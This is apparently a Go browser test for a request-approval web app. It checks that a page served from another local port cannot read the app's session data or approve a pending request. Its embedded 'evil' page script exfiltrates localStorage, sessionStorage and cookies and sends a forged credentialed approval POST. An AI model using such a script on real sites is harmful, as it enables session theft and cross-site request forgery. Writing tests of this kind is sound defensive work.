package web

import (
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"pixels/policy/ledger"
)

// A program on another port of this machine gets from a real browser all that one sends there, and tries to approve its
// own request with it.
func TestAnotherPortGetsNothingFromTheBrowser(t *testing.T) {
	s := newSite(t, "")
	r := s.ask(t, "example.com", "")
	var mu sync.Mutex
	var got []http.Header
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	evil := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, call *http.Request) {
		mu.Lock()
		got = append(got, call.Header.Clone())
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<title>evil</title><body><script>
			const target = %q;
			const say = (what) => fetch("/got?" + encodeURIComponent(what));
			say("storage " + JSON.stringify({ ...sessionStorage, ...localStorage }) + document.cookie);
			fetch(target + "/", { credentials: "include" }).then((a) => a.text()).then((text) => say("read " + text), () => 0);
			fetch(target + "/requests/%s/approve", { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ for: "1h" }) })
				.catch(() => 0).then(() => (document.title = "done"));
			new BroadcastChannel("pixels").onmessage = (e) => say("told " + JSON.stringify(e.data));
			new BroadcastChannel("pixels").postMessage("who");
		</script></body>`, s.url, r.ID)
	})}
	go evil.Serve(l)
	t.Cleanup(func() { _ = evil.Close() })

	ctx := browser(t)
	run(t, ctx, chromedp.Navigate(s.url), chromedp.WaitVisible("#token", chromedp.ByQuery), chromedp.SendKeys("#token", token+kb.Enter, chromedp.ByQuery),
		chromedp.WaitVisible("[data-card]", chromedp.ByQuery))
	// Another tab of the page needs no new token, and a tab of the other port is told nothing.
	second, cancel := chromedp.NewContext(ctx)
	defer cancel()
	run(t, second, chromedp.Navigate(s.url+"/requests/"+r.ID), chromedp.WaitVisible("[data-card]", chromedp.ByQuery))
	third, cancel := chromedp.NewContext(ctx)
	defer cancel()
	run(t, third, chromedp.Navigate("http://"+l.Addr().String()), comes(`document.title === "done"`))
	run(t, ctx, chromedp.Navigate("http://"+l.Addr().String()), comes(`document.title === "done"`))

	mu.Lock()
	defer mu.Unlock()
	if len(got) < 2 {
		t.Fatalf("the browser called %d times", len(got))
	}
	for _, h := range got {
		replay := s.visitor(t)
		for _, form := range []url.Values{{"for": {"1h"}}, {"for": {"1h"}, "csrf": {"x"}}} {
			var header []string
			for k, v := range h {
				if k != "Origin" && k != "Referer" && !strings.HasPrefix(k, "Sec-") && k != "Accept-Encoding" {
					header = append(header, k, v[0])
				}
			}
			// What a form needs besides would stand on the page.
			_, page := replay.do(t, "GET", "/", nil, header...)
			if strings.Contains(page, r.ID) {
				t.Fatalf("the page shows itself to another port: %v", h)
			}
			if status, body := replay.do(t, "POST", "/requests/"+r.ID+"/approve", form, header...); status != http.StatusUnauthorized {
				t.Errorf("%d %s", status, body)
			}
		}
	}
	if state := s.state(t, r.ID); state != ledger.RequestOpen {
		t.Errorf("it is %s", state)
	}
}
